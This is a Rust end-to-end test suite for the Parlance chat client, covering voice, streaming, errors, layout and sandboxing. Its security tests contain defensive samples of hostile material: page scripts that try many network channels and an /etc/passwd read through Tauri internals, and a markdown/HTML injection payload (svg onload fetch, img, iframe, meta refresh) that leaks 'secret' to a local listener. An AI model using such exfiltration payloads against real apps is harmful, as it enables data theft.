//! Journeys through the window: a real WebView driven by a real WebDriver, real sound, the simulator as the server.

mod files;
mod tools;
mod voice;

use std::time::{Duration, Instant};

use parlance_audio::resample::resample_all;
use parlance_simulator::{Answer, Pace, Piece, Rule, Scenario, Script, Simulator};
use serde_json::json;

use crate::support::likeness::find_in_pieces;
use crate::support::virtual_audio::{DEVICE_RATE, VIRTUAL_AUDIO, greeting, speak, speaker_recording};
use crate::support::virtual_keyring::VIRTUAL_KEYRING;
use crate::support::window::{Opening, Window};

/// Plays a test with sound and keyring of its own.
#[track_caller]
fn on_stage(name: &str, body: impl Future<Output = ()>) {
    let name = format!("window::{name}");
    VIRTUAL_AUDIO.play(&name, &[], || {
        VIRTUAL_KEYRING.play(&name, &[], || {
            tokio::runtime::Builder::new_multi_thread()
                .worker_threads(2)
                .enable_all()
                .build()
                .expect("a runtime starts")
                .block_on(body);
        });
    });
}

/// Points Parlance at a server as a person does, in the settings.
async fn add_server(window: &Window, name: &str, simulator: &Simulator) {
    window.click("settings-open").await;
    window.click("add-server").await;
    window.type_into("new-name", name).await;
    window.type_into("new-base-url", &simulator.base_url()).await;
    window.click("save-server").await;
    // It is tested at once, and its first model is used.
    window
        .wait_text(&format!("[data-testid=provider][data-id={name}]"), |text| {
            text.contains("in use") || text.contains("使用中")
        })
        .await;
}

fn slow_answer(words: &str, ms: u64) -> Answer {
    Answer::says(words).with_pace(Pace { between_ms: ms, ..Pace::default() })
}

#[test]
fn a_person_talks_to_echo_with_the_key_held_and_hears_themselves() {
    on_stage("a_person_talks_to_echo_with_the_key_held_and_hears_themselves", async {
        let data = tempfile::tempdir().unwrap();
        let window = Window::open(Opening::new(data.path())).await;
        window.picture("first-minute").await;
        window.leave_fields().await;
        window.key_down(' ').await;
        let (_, heard_after) = window.wait_talk_state(&["listening", "hearing"]).await;
        println!("measured: press to listening, as drawn: {} ms", heard_after.as_millis());
        let mut player = speak(&greeting());
        window.wait_talk_state(&["hearing"]).await;
        window.picture("hearing").await;
        tokio::task::spawn_blocking(move || player.wait()).await.unwrap().unwrap();
        window.key_up(' ').await;
        window.wait_talk_state(&["speaking"]).await;
        window.picture("speaking").await;
        window.wait_talk_state(&["idle"]).await;
        window.wait_css("[data-testid=message][data-author=they][data-status=complete]").await;
        assert_eq!(window.count("[data-testid=message]").await, 2);
        window.picture("spoken").await;

        tokio::time::sleep(Duration::from_millis(500)).await;
        let said = resample_all(&greeting(), DEVICE_RATE).samples;
        let heard = find_in_pieces(&said, &speaker_recording());
        assert!(heard.correlation >= 0.9, "correlation {}", heard.correlation);
        window.close().await;
    });
}

#[test]
fn an_answer_streams_in_is_stopped_and_is_found_after_a_restart() {
    on_stage("an_answer_streams_in_is_stopped_and_is_found_after_a_restart", async {
        let words = "The quick marmalade fox considers **bold** words and `code`, then goes on and on. ".repeat(20);
        let simulator = Simulator::start(Scenario::always(slow_answer(&words, 60))).await.unwrap();
        let data = tempfile::tempdir().unwrap();
        let window = Window::open(Opening::new(data.path())).await;
        add_server(&window, "simulated", &simulator).await;
        window.picture("settings").await;
        window.click("new").await;
        window.type_into("composer", "What does the fox do?").await;
        window.click("send").await;
        let answer = "[data-testid=message][data-author=they]";
        window.wait_text(answer, |text| text.contains("marmalade")).await;
        window.wait_css(&format!("{answer} strong")).await;
        window.picture("streaming").await;
        window.click("stop").await;
        window.wait_css(&format!("{answer}[data-status=stopped]")).await;
        let kept = window.wait_text(answer, |text| text.contains("marmalade")).await;
        assert!(kept.len() < words.len(), "it was stopped before its end");
        window.picture("stopped").await;
        // The server is not asked to go on: the connection is gone.
        let gone = Instant::now();
        while simulator.open_connections() > 0 && gone.elapsed() < Duration::from_secs(5) {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert_eq!(simulator.open_connections(), 0);
        window.close().await;

        let window = Window::open(Opening::new(data.path())).await;
        window.click("search-open").await;
        window.type_into("search", "marmalade").await;
        let hit = window.wait("hit").await;
        assert_eq!(window.wait_text("[data-testid=hit] mark", |text| !text.is_empty()).await, "marmalade");
        window.picture("search").await;
        hit.click().await.unwrap();
        window.wait_css(&format!("{answer}[data-status=stopped]")).await;
        window.close().await;
    });
}

#[test]
fn a_refused_key_a_silent_server_and_a_cut_say_what_to_do_and_lose_nothing() {
    on_stage("a_refused_key_a_silent_server_and_a_cut_say_what_to_do_and_lose_nothing", async {
        let refused = Answer::refuses(401, &json!({"error": {"message": "bad key", "code": "invalid_api_key"}}));
        let rules = vec![
            Rule { when: Some("first".into()), answer: refused, ..Rule::default() },
            Rule { answer: Answer::says("Here is the answer."), ..Rule::default() },
        ];
        let simulator = Simulator::start(Scenario { rules, ..Scenario::default() }).await.unwrap();
        let data = tempfile::tempdir().unwrap();
        let window = Window::open(Opening::new(data.path())).await;
        add_server(&window, "simulated", &simulator).await;
        window.click("new").await;
        window.type_into("composer", "first question").await;
        window.click("send").await;
        let failed = "[data-testid=message][data-author=they][data-status=failed]";
        let said = window.wait_text(failed, |text| text.contains("401")).await;
        assert!(said.contains("simulated"), "{said}");
        window.picture("key-refused").await;
        window.wait_text("[data-testid=message][data-author=you]", |text| text.contains("first question")).await;
        window.type_into("composer", "second question").await;
        window.click("send").await;
        window
            .wait_text("[data-testid=message][data-status=complete][data-author=they]", |text| {
                text.contains("Here is the answer.")
            })
            .await;
        window.close().await;
    });
}

#[test]
fn the_page_reaches_nothing_but_our_two_commands() {
    on_stage("the_page_reaches_nothing_but_our_two_commands", async {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let data = tempfile::tempdir().unwrap();
        let window = Window::open(Opening::new(data.path())).await;
        let attempts = r#"
            const [host, done] = [arguments[0], []];
            const http = "http://" + host + "/", socket = "ws://" + host + "/";
            const attempt = (name, action) => { try { action(); done.push(name); } catch (error) { done.push(name + ": " + error); } };
            attempt("fetch", () => fetch(http).catch(() => {}));
            attempt("xhr", () => { const xhr = new XMLHttpRequest(); xhr.open("GET", http); xhr.send(); });
            attempt("socket", () => new WebSocket(socket));
            attempt("events", () => new EventSource(http));
            attempt("beacon", () => navigator.sendBeacon(http, "x"));
            attempt("image", () => { new Image().src = http; });
            attempt("open", () => window.open(http));
            for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "icon", "manifest"]) {
                attempt(rel, () => { const link = document.createElement("link"); Object.assign(link, { rel, href: http, as: "image" }); document.head.append(link); });
            }
            for (const tag of ["script", "iframe", "video", "audio", "embed", "object"]) {
                attempt(tag, () => { const element = document.createElement(tag); element.src = http; element.data = http; document.body.append(element); });
            }
            attempt("form", () => { const form = document.createElement("form"); form.action = http; form.method = "post"; document.body.append(form); form.submit(); });
            attempt("rtc", () => { if (window.RTCPeerConnection) { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } });
            return done;
        "#;
        let tried = window.run(attempts, vec![json!(address.to_string())]).await;
        assert!(tried.as_array().unwrap().len() > 15, "{tried}");
        let eval = window.run("try { return (0, eval)('1 + 1') } catch { return 'refused' }", vec![]).await;
        // A WebDriver may run scripts of its own; the page's own eval is refused by the policy.
        assert_eq!(eval, json!("refused"));
        let undeclared = window
            .run(
                "return window.__TAURI_INTERNALS__.invoke('plugin:fs|read_file', { path: '/etc/passwd' }).then(() => 'read', (why) => 'refused: ' + why)",
                vec![],
            )
            .await;
        assert!(undeclared.as_str().unwrap().starts_with("refused"), "{undeclared}");
        window.run("location.href = arguments[0]", vec![json!(format!("http://{address}/"))]).await;
        let came = callers(&listener).await;
        assert!(came.is_empty(), "somebody came: {came:#?}");
        window.wait("talk-key").await;
        window.close().await;
    });
}

/// Who connects within two seconds, and what each says first.
async fn callers(listener: &tokio::net::TcpListener) -> Vec<String> {
    use tokio::io::AsyncReadExt as _;
    let mut came = Vec::new();
    while let Ok(Ok((mut caller, _))) = tokio::time::timeout(Duration::from_secs(2), listener.accept()).await {
        let mut head = [0; 300];
        let read = tokio::time::timeout(Duration::from_millis(300), caller.read(&mut head)).await;
        let said = read.ok().and_then(Result::ok).map_or(0, |length| length);
        came.push(String::from_utf8_lossy(&head[..said]).into_owned());
    }
    came
}

#[test]
fn hostile_markdown_causes_no_request_and_no_element_of_its_own() {
    on_stage("hostile_markdown_causes_no_request_and_no_element_of_its_own", async {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let host = listener.local_addr().unwrap();
        let payload = format!(
            "Look ![x](http://{host}/a?q=secret) and <img src=http://{host}/b> <svg onload=fetch('http://{host}/c')></svg> \
             <style>@import url(http://{host}/d)</style> <link rel=prefetch href=http://{host}/e> <iframe src=http://{host}/f></iframe> \
             ![r][ref] <video poster=http://{host}/g> <meta http-equiv=refresh content='0;url=http://{host}/h'>\n\n\
             [ref]: http://{host}/i\n\nend-of-payload"
        );
        let simulator = Simulator::start(Scenario::always(slow_answer(&payload, 5))).await.unwrap();
        let data = tempfile::tempdir().unwrap();
        let window = Window::open(Opening::new(data.path())).await;
        add_server(&window, "simulated", &simulator).await;
        window.click("new").await;
        window.type_into("composer", "show me").await;
        window.click("send").await;
        window.wait_text("[data-testid=message][data-author=they]", |text| text.contains("end-of-payload")).await;
        for forbidden in ["img", "svg[onload]", "iframe", "video", "style", "meta", "link"] {
            let found = window.count(&format!("[data-testid=message] {forbidden}")).await;
            assert_eq!(found, 0, "{forbidden}");
        }
        let came = callers(&listener).await;
        assert!(came.is_empty(), "somebody came: {came:#?}");
        window.picture("hostile-markdown").await;
        window.close().await;
    });
}

#[test]
fn every_view_is_drawn_at_every_size_in_both_looks_and_languages() {
    on_stage("every_view_is_drawn_at_every_size_in_both_looks_and_languages", async {
        let answer = "## Two panels\n\nAbout **41 kWh**.\n\n| Month | kWh |\n|---|---:|\n| October | 41 |\n\n```python\ndef f(x):\n    return x * 2\n```\n";
        let simulator = Simulator::start(Scenario::always(Answer::says(answer))).await.unwrap();
        for (language, first_word) in [("en", "Say something."), ("zh-CN", "说句话试试。")] {
            let data = tempfile::tempdir().unwrap();
            let window = Window::open(Opening { size: (1_640, 1_000), ..Opening::new(data.path()) }).await;
            choose(&window, "language", language).await;
            window.click("new").await;
            window.wait_text("main, body", |text| text.contains(first_word)).await;
            for theme in ["light", "dark"] {
                window.click("settings-open").await;
                choose(&window, "theme", theme).await;
                for width in [420, 900, 1_600] {
                    window.resize(width, 900).await;
                    let sidebar = window
                        .run("return getComputedStyle(document.querySelector('.sidebar')).position", vec![])
                        .await;
                    let expected = if width < 720 { "fixed" } else { "static" };
                    assert_eq!(
                        sidebar,
                        json!(expected),
                        "{language} {theme} {width}: a drawer below 720 px and beside the page above"
                    );
                    window.picture(&format!("settings-{language}-{theme}-{width}")).await;
                }
                window.click("new").await;
                for width in [420, 900, 1_600] {
                    window.resize(width, 900).await;
                    let overflow = window
                        .run(
                            "return document.documentElement.scrollWidth - document.documentElement.clientWidth",
                            vec![],
                        )
                        .await;
                    assert_eq!(overflow, json!(0), "{language} {theme} {width}: the page scrolls sideways");
                    window.picture(&format!("first-minute-{language}-{theme}-{width}")).await;
                }
            }
            add_server(&window, "simulated", &simulator).await;
            window.click("new").await;
            window.type_into("composer", "How much would two panels give me?").await;
            window.click("send").await;
            window.wait_css("[data-testid=message][data-author=they][data-status=complete]").await;
            for width in [420, 900, 1_600] {
                window.resize(width, 900).await;
                window.picture(&format!("thread-{language}-{width}")).await;
            }
            window.close().await;
        }
    });
}

/// Chooses a value of a setting, opening the settings if they are not.
async fn choose(window: &Window, setting: &str, value: &str) {
    if window.count("[data-testid=settings]").await == 0 {
        window.click("settings-open").await;
    }
    let css = format!("[data-testid={setting}] [data-value=\"{value}\"]");
    window.wait_css(&css).await.click().await.unwrap_or_else(|error| panic!("{css}: {error}"));
}
